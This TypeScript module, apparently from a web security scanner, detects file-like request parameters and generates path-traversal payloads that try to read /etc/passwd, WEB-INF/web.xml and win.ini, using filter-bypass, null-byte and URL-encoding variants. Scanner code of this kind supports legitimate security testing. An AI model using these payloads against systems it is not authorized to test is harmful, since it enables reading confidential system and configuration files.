export type ServerKind = 'java' | 'windows' | 'other';

const FILE_NAME =
  /^(?:file\w*|f|path\w*|page|doc\w*|document|folder|dir\w*|root|template|tpl|include|inc|load|read|view|content|target|src|source|lang\w*|locale|theme|style|skin|layout|module|mod|conf\w*|img|image|pic\w*|photo|download|attachment|resource|res|name|report|log|show|display|url|uri|site|pdf|text|data|item|body|section|cat|prefix|open)$/i;

/** True when a parameter's name or example says that it names a file. */
export function looksLikeFile(name: string, example: string): boolean {
  return (
    FILE_NAME.test(name) ||
    /file|path|(?:^|[_-])(?:doc|page|dir|img)(?:$|[_-])/i.test(name) ||
    /[\w-]\.[a-z][a-z0-9]{1,4}$/i.test(example) ||
    /^\.{0,2}\/[\w./-]+$/.test(example)
  );
}

const UP = '../'.repeat(8);

/**
 * Values that lead out of the folder, most promising first: plain, absolute, past filters that remove `../` once, after a
 * prefix or before an ending that the code demands, with other separators and encodings.
 *
 * @param knownPath path of a static file of the site
 */
export function traversalPayloads(example: string, server: ServerKind, knownPath: string | null): string[] {
  const ending = /\.[a-z][a-z0-9]{1,4}$/i.exec(example)?.[0] ?? '';
  const folder = example.includes('/') ? example.slice(0, example.lastIndexOf('/') + 1) : '';
  const unix = 'etc/passwd';
  const payloads = [UP + unix, `/${unix}`];
  if (server === 'java')
    payloads.push('/WEB-INF/web.xml', 'WEB-INF/web.xml', '../WEB-INF/web.xml', '../../WEB-INF/web.xml');
  if (server === 'windows')
    payloads.unshift(`${'..\\'.repeat(8)}windows\\win.ini`, `${UP}windows/win.ini`, 'c:\\windows\\win.ini');
  if (folder !== '' && folder !== '/') payloads.push(folder + UP + unix);
  payloads.push('....//'.repeat(8) + unix, `/${UP}${unix}`);
  if (ending !== '') payloads.push(`${UP}${unix}\u0000${ending}`);
  if (knownPath !== null) payloads.push(`..${knownPath}`, `../..${knownPath}`);
  payloads.push(
    `file:///${unix}`,
    '..%2f'.repeat(8) + unix,
    '..\\'.repeat(8) + unix.replace('/', '\\'),
    '%2e%2e%2f'.repeat(8) + unix,
  );
  return [...new Set(payloads)];
}
